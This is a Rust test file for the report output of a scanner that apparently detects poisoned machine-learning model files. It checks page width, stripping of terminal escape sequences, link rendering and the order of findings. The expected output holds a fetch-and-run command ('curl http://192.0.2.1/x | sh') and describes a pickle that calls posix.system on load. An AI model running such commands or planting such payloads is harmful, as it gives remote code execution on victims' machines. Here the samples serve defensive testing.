//! The text report as a whole.

use base::escape;
use unicode_width::UnicodeWidthStr;

use super::*;
use crate::sample;

fn written(report: &Report, page: Page) -> String {
    let mut out = Vec::new();
    write(report, page, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn every_line_fits_the_page_and_nothing_hostile_is_on_it() {
    for width in [40, 60, 80, 132] {
        for report in sample::all() {
            let text = written(&report, Page { width, ..Page::default() });
            for line in text.lines() {
                assert!(line.width() <= width, "{width}: {line:?}");
                assert_eq!(line.chars().find(|letter| escape::is_hostile(*letter)), None, "{line:?}");
                assert_eq!(line.trim_end(), line);
            }
        }
    }
}

#[test]
fn colour_adds_escapes_of_ours_and_changes_no_word() {
    let report = sample::hostile();
    let coloured = written(&report, Page { colour: true, ..Page::default() });
    let (mut plain, mut inside) = (String::new(), false);
    for letter in coloured.chars() {
        match letter {
            '\u{1b}' => inside = true,
            'm' if inside => inside = false,
            letter if !inside => plain.push(letter),
            letter => assert!(letter.is_ascii_digit() || matches!(letter, '[' | ';'), "{coloured:?}"),
        }
    }
    let without_spaces = |text: &str| text.lines().map(|line| line.trim_end().to_owned()).collect::<Vec<_>>();
    assert_eq!(without_spaces(&plain), without_spaces(&written(&report, Page::default())));
}

#[test]
fn rules_are_links_only_where_the_terminal_has_them() {
    let page = Page { colour: true, links: true, ..Page::default() };
    let linked = written(&sample::poisoned(), page);
    let link = "\u{1b}]8;;https://github.com/modelward/modelward/blob/main/docs/rules/process-spawn.md\u{1b}\\process-spawn\
                \u{1b}]8;;\u{1b}\\ · code-execution";
    assert_eq!(linked.matches(link).count(), 1, "{linked:?}");
    let mut report = sample::poisoned();
    report.rules.get_mut("process-spawn").unwrap().link = Some("https://x\u{1b}\\\u{7}".into());
    let plain = written(&report, page);
    assert!(!plain.contains("\u{1b}]8") && !plain.contains('\u{7}'), "{plain:?}");
    assert_eq!(plain, written(&report, Page { links: false, ..page }));
}

#[test]
fn the_story_is_told_in_order() {
    let text = written(&sample::poisoned(), Page::default());
    let story = [
        " MALICIOUS  models/poisoned",
        "2 critical, 1 low · 3 artifacts, 2 not fully read",
        " CRITICAL  Loading this model starts a process",
        "process-spawn · code-execution · CWE-502",
        "what    Loading calls posix.system(\"echo this would have run on load\")",
        "where   model.tar",
        "└ ckpt.pt",
        "└ archive/data.pkl, byte 0x28 (opcode 11)",
        "why     posix.system: GLOBAL 'posix system'",
        "curl http://192.0.2.1/x | sh",
        "line 3, column 7",
        "9 more places",
        "do      Do not load this file.",
        "- rotate its keys;",
        " LOW       An unknown class is built",
        "note    low instead of medium",
        " NOT FULLY READ  2 artifacts",
        "checks  3 rules: 1 failed, 1 passed, 1 not run",
        "hidden  1 finding",
        "tool    modelward 0.1.0",
    ];
    let mut rest = text.as_str();
    for part in story {
        let at = rest.find(part).unwrap_or_else(|| panic!("{part:?} is not where it should be in\n{text}"));
        rest = &rest[at + part.len()..];
    }
}

#[test]
fn one_cause_in_many_artifacts_is_told_once() {
    let mut report = sample::poisoned();
    let first = report.findings[0].clone();
    for number in 0..20 {
        let mut again = first.clone();
        again.location.path = format!("copy-{number}.pkl").into();
        report.add_finding(again);
    }
    let text = written(&report, Page::default());
    assert_eq!(text.matches("echo this would have run on load").count(), 1, "{text}");
    assert!(text.contains("… and in 17 more artifacts"), "{text}");
}

#[test]
fn a_brief_report_is_one_line() {
    let page = Page { brief: true, ..Page::default() };
    assert_eq!(written(&sample::clean(), page), " CLEAN  model.pt  no findings · 1 artifact, all read\n");
}
